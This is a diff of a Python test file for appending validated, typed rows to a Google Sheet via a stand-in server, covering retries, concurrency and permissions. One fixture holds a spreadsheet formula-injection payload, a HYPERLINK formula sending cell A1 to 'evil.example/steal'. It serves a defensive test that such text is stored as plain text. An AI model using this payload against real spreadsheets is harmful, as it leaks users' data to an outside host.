@@ -1,7 +1,8 @@
-"""Adding rows to a Google Sheet: validated first, written as typed, in the sheet's own column
-order, exactly once even when Google's answer is lost, and never silently dropped.
+"""Adding rows to a Google Sheet: validated first, written as typed cells (text as text, dates as
+date cells), in the sheet's own column order, with the tab's next id, exactly once even when
+Google's answer is lost, and never silently dropped.
 
-The real gspread client writes over HTTP to the stand-in; the stand-in's stored values are the
+The real gspread client writes over HTTP to the stand-in; the stand-in's stored cells are the
 ground truth.
 """
 
@@ -24,7 +25,7 @@ from tests.fixtures.small import raw_tabs
 from tests.sheet_access import FAST
 from tests.sheet_access import sheet_reader as make_reader
 from tests.sheet_access import writable_sheet as add_writable
-from tests.sheets_standin import SheetsStandin
+from tests.sheets_standin import Cell, SheetsStandin
 
 FORMULA_LIKE = {
     "artifact": '=HYPERLINK("https://evil.example/steal?c="&A1,"Open the deck")',
@@ -69,18 +70,19 @@ def test_formula_looking_text_round_trips_as_text(
     row = critique(small_wb, **FORMULA_LIKE)
     done = writes.append(reader, small_sid, "critiques", row)
 
-    request = sheets_standin.appends[-1]
-    assert request.query["valueInputOption"] == "RAW"
-    assert request.query["insertDataOption"] == "INSERT_ROWS"
-    assert request.applied and len(sheets_standin.appends) == 1
+    assert sheets_standin.counts["append"] == 0 and len(sheets_standin.batch_updates) == 1
+    (request,) = sheets_standin.batch_updates[-1].body["requests"]
+    sent = request["appendCells"]["rows"][0]["values"]
+    # Every text cell goes as a typed string: Sheets never parses it, so it can never become a formula.
+    assert {"stringValue": FORMULA_LIKE["artifact"]} in [cell.get("userEnteredValue") for cell in sent]
+    assert all("formulaValue" not in cell.get("userEnteredValue", {}) for cell in sent)
 
     header = sheets_standin.values(small_sid, "critiques")[0]
     stored = dict(zip(header, sheets_standin.values(small_sid, "critiques")[-1], strict=False))
     assert stored["critique_id"] == done.id
     assert {column: stored[column] for column in FORMULA_LIKE} == FORMULA_LIKE
-    with sheets_standin.lock:  # stored as text, not as formulas Sheets would run
-        last = sheets_standin.spreadsheet(small_sid).find_tab("critiques").rows[-1]  # type: ignore[union-attr]
-        assert all(cell is None or cell.formula is None for cell in last)
+    last = sheets_standin.cells(small_sid, "critiques")[-1]
+    assert all(cell is None or cell.formula is None for cell in last)  # stored as text, not as formulas
 
     again = load.workbook(small_sid, reader=reader)
     read_back = again.critiques.set_index("critique_id").loc[done.id]
@@ -88,6 +90,56 @@ def test_formula_looking_text_round_trips_as_text(
     assert {column: read_back[column] for column in FORMULA_LIKE} == {**FORMULA_LIKE, "participants": ("-2",)}
     assert read_back["date"] == dt.datetime(2026, 3, 2) and read_back["roles"] == ("PM", "Eng")
     assert not [i for i in again.issues if i.tab == "critiques"], "the new row reads back without an issue"
+
+
+def test_dates_land_as_date_cells_and_numbers_as_numbers(
+    sheets_standin: SheetsStandin, reader: sheets.SheetReader, small_sid: str, small_wb: Workbook,
+) -> None:
+    row = writes.prepare("decisions", {"date": "2 Mar 2026", "category": "Discovery cadence", "summary": "Weekly",
+                                       "impact": "4", "source_ids": ["S-1", "S-3"]}, small_wb)
+    done = writes.append(reader, small_sid, "decisions", row)
+
+    header = sheets_standin.values(small_sid, "decisions")[0]
+    cells = dict(zip(header, sheets_standin.cells(small_sid, "decisions")[done.row_number - 1], strict=False))  # type: ignore[operator]
+    # A date cell, as a person typing 2026-03-02 into Sheets makes one: it sorts and filters as a date.
+    assert cells["date"] == Cell(dt.date(2026, 3, 2), number_format="date_iso")
+    assert cells["impact"] == Cell(4)
+    assert cells["category"] == Cell("discovery_cadence") and cells["source_ids"] == Cell("S-1, S-3")
+    # What Sheets shows, and the serial number behind it.
+    shown = reader.client.http_client.values_get(small_sid, f"decisions!A{done.row_number}:Z{done.row_number}")
+    assert dict(zip(header, shown["values"][0], strict=False))["date"] == "2026-03-02"
+    serial = reader.client.http_client.values_get(small_sid, f"decisions!A{done.row_number}:Z{done.row_number}",
+                                                  params={"valueRenderOption": "UNFORMATTED_VALUE"})
+    assert dict(zip(header, serial["values"][0], strict=False))["date"] == 46083
+
+
+def test_a_blank_id_becomes_the_tabs_next_one_and_the_row_is_said(
+    sheets_standin: SheetsStandin, reader: sheets.SheetReader, small_sid: str, small_wb: Workbook,
+) -> None:
+    highest = max(int(i.removeprefix("C-")) for i in ids_in(sheets_standin, small_sid, "critiques"))
+    first = writes.append(reader, small_sid, "critiques", critique(small_wb))
+    second = writes.append(reader, small_sid, "critiques", critique(small_wb, artifact="Another test"))
+
+    assert (first.id, second.id) == (f"C-{highest + 1}", f"C-{highest + 2}")
+    rows = sheets_standin.values(small_sid, "critiques")
+    assert (first.row_number, second.row_number) == (len(rows) - 1, len(rows))
+    assert rows[second.row_number - 1][0] == second.id  # type: ignore[operator]
+    gid = sheets_standin.spreadsheet(small_sid).find_tab("critiques").sheet_id  # type: ignore[union-attr]
+    assert second.link == f"https://docs.google.com/spreadsheets/d/{small_sid}/edit#gid={gid}&range=A{len(rows)}"
+    assert (second.title, second.workbook) == ("critiques", "Small playbook")
+
+
+def test_an_api_key_cannot_write_and_is_told_how_to(
+    sheets_standin: SheetsStandin, small_sid: str, small_wb: Workbook,
+) -> None:
+    sheets_standin.set_public(small_sid)
+    api_key = make_reader(sheets_standin, api_key=sheets_standin.add_api_key())
+    row = critique(small_wb)
+    with pytest.raises(writes.WriteFailed) as failed:
+        writes.append(api_key, small_sid, "critiques", row)
+    assert str(failed.value).startswith("An API key can only read: share the sheet with a service account as Editor")
+    assert failed.value.row == row
+    assert sheets_standin.counts["batch_update"] == 0
 
 
 def test_values_land_in_the_column_order_of_the_real_header(
@@ -106,7 +158,8 @@ def test_values_land_in_the_column_order_of_the_real_header(
     decision = writes.prepare("decisions", {"date": dt.date(2026, 4, 20), "category": "bet",
                                             "summary": "Hire a researcher", "source_ids": ["S-001", "S-002"]},
                               before)
-    for tab, row in (("sources", source), ("themes", theme), ("decisions", decision)):
+    decision_id = writes.append(reader, sid, "decisions", decision).id
+    for tab, row in (("sources", source), ("themes", theme)):
         writes.append(reader, sid, tab, row)
 
     def stored(title: str, row_id: str) -> tuple[int, list[object]]:
@@ -116,20 +169,20 @@ def test_values_land_in_the_column_order_of_the_real_header(
         return found[0]
 
     # PLN: Name, Source ID, Kind, Added On, Theme ID, URL, Last engaged on, Pruned-On, Notes, Rating
-    assert stored("PLN", "S-100")[1] == ["Shape Up", "S-100", "book", "2026-03-02", "T-ONBOARD",
+    assert stored("PLN", "S-100")[1] == ["Shape Up", "S-100", "book", dt.date(2026, 3, 2), "T-ONBOARD",
                                          "https://basecamp.com/shapeup", None, None, "chapter 3"]
     # Themes: Theme ID, Title, Quarter, Owner, Status, Definition of good (below the title row and header)
     at, row = stored("Themes", "T-NEW")
     assert row == ["T-NEW", "Hiring", "2026-Q2", "Aisha Bello"] and at > 1
     # Decision Changes: Decision ID, Date, Category, Summary, Theme ID, Source IDs, ...
-    at, row = stored("Decision Changes", decision["decision_id"])
-    assert row == [decision["decision_id"], "2026-04-20", "bet", "Hire a researcher", None, "S-001, S-002"] and at > 2
+    at, row = stored("Decision Changes", decision_id)
+    assert row == [decision_id, dt.date(2026, 4, 20), "bet", "Hire a researcher", None, "S-001, S-002"] and at > 2
 
     after = load.workbook(sid, reader=reader)
     assert after.sources.set_index("source_id").loc["S-100", "name"] == "Shape Up"
     assert after.sources.set_index("source_id").loc["S-100", "added_on"] == dt.datetime(2026, 3, 2)
     assert after.themes.set_index("theme_id").loc["T-NEW", "owner"] == "Aisha Bello"
-    assert after.decisions.set_index("decision_id").loc[decision["decision_id"], "source_ids"] == ("S-001", "S-002")
+    assert after.decisions.set_index("decision_id").loc[decision_id, "source_ids"] == ("S-001", "S-002")
     for tab in ("sources", "themes", "decisions"):
         assert len(after.tables[tab]) == len(before.tables[tab]) + 1, tab
         for severity in ("error", "warning"):
@@ -152,7 +205,7 @@ def test_invalid_input_is_refused_with_field_messages_and_nothing_is_written(
     assert "'meeting'" in problems["artifact_type"] and "experiment" in problems["artifact_type"]
     assert "required" in problems["artifact"]
     assert "PM, Design, Eng" in problems["roles"]
-    assert sheets_standin.counts["append"] == 0
+    assert sheets_standin.counts["batch_update"] == 0
     assert sheets_standin.values(small_sid, "critiques") == before
 
 
@@ -171,15 +224,15 @@ def test_unknown_references_and_taken_ids_are_refused(small_wb: Workbook, sheets
     with pytest.raises(writes.WriteRefused) as refused:
         writes.prepare("themes", {"theme_id": "T-A1", "quarter": "2026-Q3", "title": "Again"}, small_wb)
     assert "already used" in refused.value.problems["theme_id"]
-    assert sheets_standin.counts["append"] == 0
+    assert sheets_standin.counts["batch_update"] == 0
 
 
 # ---------------------------------------------------------------------- many, and concurrent ---
 
 
-def variants(template: dict[str, str], n: int, tag: str) -> list[dict[str, str]]:
-    """``n`` rows like ``template`` (already validated) with new ids: preparing each costs ~0.1 s."""
-    return [{**template, "critique_id": writes.new_id("critiques"), "artifact": f"{tag} {i}"} for i in range(n)]
+def variants(template: dict[str, Any], n: int, tag: str) -> list[dict[str, Any]]:
+    """``n`` rows like ``template`` (already validated) with ids of their own: preparing each costs ~0.1 s."""
+    return [{**template, "critique_id": f"C-{tag}-{i:03d}", "artifact": f"{tag} {i}"} for i in range(n)]
 
 
 def test_two_threads_appending_fifty_rows_each_land_exactly_one_hundred(
@@ -198,7 +251,7 @@ def test_two_threads_appending_fifty_rows_each_land_exactly_one_hundred(
     assert len(results) == 100 and all(done.attempts == 1 for done in results)
     stored = ids_in(sheets_standin, small_sid, "critiques") - existing
     assert stored == Counter(row["critique_id"] for batch in batches for row in batch)
-    assert sheets_standin.counts["append"] == 100
+    assert sheets_standin.counts["batch_update"] == 100
     header = sheets_standin.values(small_sid, "critiques")[0]
     by_id = {row[0]: dict(zip(header, row, strict=False)) for row in sheets_standin.values(small_sid, "critiques")[1:]}
     for row in (r for batch in batches for r in batch):  # no row was torn or mixed with another
@@ -233,7 +286,7 @@ def test_two_hundred_appends_with_lost_answers_land_every_row_exactly_once(
         with lock:
             if schedule and int(row["artifact"].split()[-1]) % 6 == 0:
                 fault = schedule.pop()
-                injected.append((fault, sheets_standin.inject(**fault, times=1, endpoints="append")))
+                injected.append((fault, sheets_standin.inject(**fault, times=1, endpoints="batch_update")))
         return writes.append(reader, small_sid, "critiques", row)
 
     with ThreadPoolExecutor(max_workers=4) as pool:
@@ -245,8 +298,8 @@ def test_two_hundred_appends_with_lost_answers_land_every_row_exactly_once(
     assert max(stored.values()) == 1
     applied = sum(1 for spec, _ in injected if spec.get("apply"))
     assert sum(done.confirmed_by_reread for done in results) == applied, "lost answers found by re-reading ids"
-    assert sheets_standin.counts["append"] == 200 + len(injected) - applied, "a write that landed is never repeated"
-    assert [a.applied for a in sheets_standin.appends].count(True) == 200
+    assert sheets_standin.counts["batch_update"] == 200 + len(injected) - applied, "a write that landed is never repeated"
+    assert [a.applied for a in sheets_standin.batch_updates].count(True) == 200
 
 
 def test_faults_outlasting_the_retry_budget_fail_with_the_row_in_hand(
@@ -254,12 +307,13 @@ def test_faults_outlasting_the_retry_budget_fail_with_the_row_in_hand(
 ) -> None:
     before = sheets_standin.values(small_sid, "critiques")
     row = critique(**FORMULA_LIKE)
-    sheets_standin.inject("503", times=None, endpoints="append")
+    sheets_standin.inject("503", times=None, endpoints="batch_update")
     with pytest.raises(writes.WriteFailed) as failed:
         writes.append(reader, small_sid, "critiques", row)
-    assert failed.value.row == row
+    assert failed.value.row == {**row, "critique_id": failed.value.row["critique_id"]}
+    assert failed.value.row["critique_id"], "the row keeps the id it was given, to be sent again"
     assert "after 6 tries" in str(failed.value) and "still here" in str(failed.value)
-    assert sheets_standin.counts["append"] == FAST.max_attempts
+    assert sheets_standin.counts["batch_update"] == FAST.max_attempts
     assert sheets_standin.values(small_sid, "critiques") == before
 
 
@@ -278,7 +332,7 @@ def test_a_sheet_that_cannot_be_read_fails_the_write_with_the_row_in_hand(
         writes.append(reader, small_sid, "critiques", row)
     assert failed.value.row == row
     assert "try again" in str(failed.value)
-    assert sheets_standin.counts["append"] == 0
+    assert sheets_standin.counts["batch_update"] == 0
 
 
 def test_a_viewer_account_cannot_write_and_is_told_to_share_as_editor(
@@ -289,9 +343,9 @@ def test_a_viewer_account_cannot_write_and_is_told_to_share_as_editor(
     row = critique()
     with pytest.raises(writes.WriteFailed) as failed:
         writes.append(reader, small_sid, "critiques", row)
-    assert failed.value.row == row
+    assert failed.value.row["artifact"] == row["artifact"]
     assert standin_service_account["client_email"] in str(failed.value) and "Editor" in str(failed.value)
-    assert sheets_standin.counts["append"] == 1, "a refusal is not retried"
+    assert sheets_standin.counts["batch_update"] == 1, "a refusal is not retried"
 
 
 def test_a_sheet_without_the_tab_says_to_run_init_sheet(
@@ -302,7 +356,7 @@ def test_a_sheet_without_the_tab_says_to_run_init_sheet(
     with pytest.raises(writes.WriteFailed) as failed:
         writes.append(reader, sid, "critiques", row)
     assert "init-sheet" in str(failed.value) and failed.value.row == row
-    assert sheets_standin.counts["append"] == 0
+    assert sheets_standin.counts["batch_update"] == 0
 
 
 
@@ -312,27 +366,42 @@ def test_a_write_applied_after_the_client_gave_up_is_not_repeated(
 ) -> None:
     row = critique()
     # The server sits on the request past the client's timeout, *then* writes it and answers.
-    sheets_standin.inject("hang", endpoints="append", after_hang="answer", hang_seconds=2.0)
-    writes.append(reader, small_sid, "critiques", row)
+    sheets_standin.inject("hang", endpoints="batch_update", after_hang="answer", hang_seconds=2.0)
+    done = writes.append(reader, small_sid, "critiques", row)
     deadline = time.monotonic() + 4
-    while any(not a.applied and a.status is None for a in sheets_standin.appends) and time.monotonic() < deadline:
+    while any(not a.applied and a.status is None for a in sheets_standin.batch_updates) and time.monotonic() < deadline:
         time.sleep(0.05)  # until the late write has landed
-    assert ids_in(sheets_standin, small_sid, "critiques")[row["critique_id"]] == 1
+    assert ids_in(sheets_standin, small_sid, "critiques")[done.id] == 1
 
 
 def test_sending_a_failed_row_again_looks_first_and_never_adds_it_twice(
     sheets_standin: SheetsStandin, reader: sheets.SheetReader, small_sid: str,
 ) -> None:
-    row = critique()
-    sheets_standin.inject("500", endpoints="values_get", times=None)
+    sheets_standin.inject("500", endpoints="batch_update", times=None)
     with pytest.raises(writes.WriteFailed) as failed:
-        writes.append(reader, small_sid, "critiques", row)
+        writes.append(reader, small_sid, "critiques", critique())
     sheets_standin.clear_faults()
-    # Say that try was carried out after all, later than anyone looked: the row is in the sheet.
+    # Say that a try was carried out after all, later than anyone looked: the row is in the sheet.
+    row = failed.value.row
     header, *rows = sheets_standin.values(small_sid, "critiques")
     for position, column in enumerate(header):
-        sheets_standin.set_cell(small_sid, "critiques", len(rows) + 1, position, row.get(column, ""))
-    appends_before = sheets_standin.counts["append"]
-    again = writes.append(reader, small_sid, "critiques", failed.value.row, look_first=True)
-    assert again.confirmed_by_reread and sheets_standin.counts["append"] == appends_before
+        sheets_standin.set_cell(small_sid, "critiques", len(rows) + 1, position, row.get(column) or None)
+    writes_before = sheets_standin.counts["batch_update"]
+    again = writes.append(reader, small_sid, "critiques", row, look_first=True)
+    assert again.confirmed_by_reread and sheets_standin.counts["batch_update"] == writes_before
+    assert again.row_number == len(rows) + 2 and again.id == row["critique_id"]
     assert ids_in(sheets_standin, small_sid, "critiques")[row["critique_id"]] == 1
+
+
+def test_a_tab_without_an_id_column_is_still_written_once(
+    sheets_standin: SheetsStandin, standin_service_account: dict[str, str], reader: sheets.SheetReader,
+) -> None:
+    tabs = raw_tabs()
+    tabs["critiques"] = [line[1:] for line in tabs["critiques"]]  # no critique_id column: rows are known by number
+    sid = add_writable(sheets_standin, standin_service_account, tabs)
+    row = critique(load.workbook(sid, reader=reader))
+    sheets_standin.inject("500", endpoints="batch_update", apply=True)  # written; the answer says it failed
+    done = writes.append(reader, sid, "critiques", row)
+    rows = sheets_standin.values(sid, "critiques")
+    assert done.confirmed_by_reread and done.row_number == len(rows) and done.id == f"C-r{len(rows)}"
+    assert sum(1 for line in rows if "Pricing page test" in line) == 1
